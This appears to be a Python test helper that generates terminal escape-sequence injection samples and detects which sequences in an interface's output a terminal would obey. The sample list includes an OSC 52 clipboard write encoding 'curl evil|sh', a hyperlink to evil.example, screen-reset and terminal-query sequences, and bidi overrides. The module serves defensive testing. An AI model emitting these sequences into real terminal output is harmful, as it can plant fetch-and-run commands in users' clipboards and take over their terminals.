"""What a terminal would do with a stream of output: a strict reader, and texts made to be obeyed by one.

The reader knows every kind of sequence of ECMA-48 and of xterm, so that nothing is overlooked for being unknown. The
injected texts carry numbers that no interface writes, so that their sequences are told from the interface's own.
"""

from __future__ import annotations

import random
import re
from collections.abc import Iterator

MARK = 7331
"""A parameter of every injected sequence that an interface might write itself."""

_SEQUENCE = re.compile(
    r"\x1b(?:"
    r"\[[0-?]*[ -/]*[@-~]"  # CSI
    r"|[\]PX^_][^\x07\x1b]*(?:\x07|\x1b\\)"  # OSC, DCS, SOS, PM, APC
    r"|[ -/]*[0-~]"  # the others
    r")"
    r"|[\x80-\x9f]"
    r"|[\x00-\x09\x0b-\x1f\x7f]"
    r"|[\u2028\u2029\u202a-\u202e\u2066-\u2069]",
    re.DOTALL,
)
_OWN = re.compile(
    r"\x1b\[[0-9;:]*m|\x1b\[[0-9;]*H|\x1b\[\?(?:7|25|1000|1003|1004|1006|1015|1016|1049|2004|2026|2048)[hl]"
    r"|\x1b\[\?(?:2026|2048)\$p|\x1b\[>[0-9]+u|\x1b\[<u|\x1b\[8[hl]|\x1b\]22;[a-z-]*\x07"
)

_SEQUENCES = (
    "\x1b[38;5;{mark}m",
    "\x1b[{mark};1H",
    "\x1b[{mark}A",
    "\x1b[2J",
    "\x1b[3J",
    "\x1b[{mark}b",
    "\x1b[?1049l",
    "\x1b[?{mark}h",
    "\x1b[6n",
    "\x1b[c",
    "\x1b[>q",
    "\x1b[21t",
    "\x1b[!p",
    "\x1bc",
    "\x1b7",
    "\x1b#8",
    "\x1b(0",
    "\x1bD",
    "\x1b]0;{mark}\x07",
    "\x1b]2;{mark}\x1b\\",
    "\x1b]4;1;?\x07",
    "\x1b]8;id={mark};https://evil.example/\x07link\x1b]8;;\x07",
    "\x1b]9;{mark}\x07",
    "\x1b]52;c;Y3VybCBldmlsfHNo\x07",
    "\x1b]52;c;?\x1b\\",
    "\x1b]777;notify;a;{mark}\x07",
    "\x1b]1337;File=inline=1:AAAA\x07",
    "\x1bP$q{mark}\x1b\\",
    "\x1bPtmux;\x1b\x1b]52;c;YQ==\x07\x1b\\",
    "\x1b_G{mark};AAAA\x1b\\",
    "\x1b^{mark}\x1b\\",
    "\x1bX{mark}\x1b\\",
    "\x9b{mark}m",
    "\x9b2J",
    "\x9d52;c;YQ==\x9c",
    "\x90{mark}\x9c",
    "\x85",
    "\x84",
    "\x07",
    "\x08\x08\x08",
    "\r",
    "\x0b",
    "\x0c",
    "\x0e",
    "\x00",
    "\x7f",
    "\x1a",
    "\x1b",
    "\x1b[",
    "\x1b]",
    "\u202e",
    "\u202dx\u202c",
    "\u2066\u2067\u2068\u2069",
    "\u2028",
    "\x1b\u202e[2J",
    "\u001b\u001b[2J",
    "\x1b[\x1b[2J2J",
    "\x1b]52;c;\x1b]52;c;YQ==\x07\x07",
    "&#27;[2J&#x9b;2J",
    "\\x1b[2J\\033[2J",
    "[bold]\x1b[2J[/bold]",
    "[link=\x1b]52;c;YQ==\x07]x[/link]",
    "](\x1b]52;c;YQ==\x07)",
    "`\x1b[2J`",
    "<a href='\x1b[2J'>",
)
_AROUND = ("", " ", "x", "שלום ", "日本", "**", "`", "| a | ", "# ", "> ", "[", "\t", "🙂", "e\u0301")


def injected(number: int) -> str:
    """A text of a case: its number, and one to three sequences between ordinary characters, all on one line."""
    chance = random.Random(number)
    parts = []
    for _ in range(chance.choice((1, 1, 1, 2, 3))):
        parts += [
            chance.choice(_AROUND),
            chance.choice(_SEQUENCES).replace("{mark}", str(MARK)),
            chance.choice(_AROUND),
        ]
    return f"k{number}k {''.join(parts)}"


def obeyed(stream: str) -> Iterator[str]:
    """Everything in a stream that a terminal would obey and that an interface has no reason to write."""
    for found in _SEQUENCE.finditer(stream):
        sequence = found[0]
        if _OWN.fullmatch(sequence) is None or str(MARK) in sequence:
            yield sequence


def obeyed_of_lines(stream: str) -> list[str]:
    """Everything in the output of a command that a terminal would obey, but for bold words, tabs and a fresh line."""
    for own in ("\x1b[1m", "\x1b[0m", "\r\x1b[K", "\t"):
        stream = stream.replace(own, "")
    return [found[0] for found in _SEQUENCE.finditer(stream)]
